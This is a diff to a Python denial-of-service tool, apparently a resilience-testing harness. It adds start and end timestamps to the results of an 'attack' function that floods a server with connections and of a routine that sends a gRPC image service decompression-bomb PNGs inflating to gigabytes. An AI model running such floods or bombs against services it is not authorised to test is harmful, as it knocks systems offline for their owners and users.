@@ -73,6 +73,8 @@ class Done:
         ended: Calls that the server ended.
         sent: Bytes.
         received: Bytes.
+        began: When the attack began, on the clock of all processes of this machine.
+        over: When it was over.
     """
 
     connected: int = 0
@@ -82,6 +84,8 @@ class Done:
     ended: int = 0
     sent: int = 0
     received: int = 0
+    began: float = 0.0
+    over: float = 0.0
 
 
 Make = Callable[[int, int], bytes]
@@ -256,9 +260,9 @@ def attack(orders: Orders) -> Done:
     if orders.kind == BOMB:
         return _bombs(orders)
     kind = KINDS[orders.kind](orders)
-    done = Done()
     connections: list[_Connection] = []
     began = time.monotonic()
+    done = Done(began=began)
     while (now := time.monotonic()) < began + orders.seconds:
         if len(connections) < orders.connections:
             try:
@@ -279,6 +283,7 @@ def attack(orders: Orders) -> Done:
         waiting = [connection.socket for connection in connections]
         writers = waiting if allowed >= _BATCH else []
         select.select(waiting, writers, [], _TURN)
+    done.over = time.monotonic()
     for connection in connections:
         connection.socket.close()
     return done
@@ -286,11 +291,11 @@ def attack(orders: Orders) -> Done:
 
 def _bombs(orders: Orders) -> Done:
     """Shows one image that inflates to gigabytes after the other; flow control makes this a job for a library."""
-    done = Done()
     request = recognition_service_pb2.RecognizeImageRequest(image=inflating_png())
     metadata = (("authorization", f"Bearer {orders.key}"),)
     options = [("grpc.use_local_subchannel_pool", 1)]
-    until = time.monotonic() + orders.seconds
+    done = Done(began=time.monotonic())
+    until = done.began + orders.seconds
     with grpc.insecure_channel(orders.address, options=options) as channel:
         stub = recognition_service_pb2_grpc.RecognitionServiceStub(channel)
         while time.monotonic() < until:
@@ -301,6 +306,7 @@ def _bombs(orders: Orders) -> Done:
             except grpc.RpcError:
                 done.refused += 1
             time.sleep(1 / orders.rate)
+        done.over = time.monotonic()
     return done
 
 
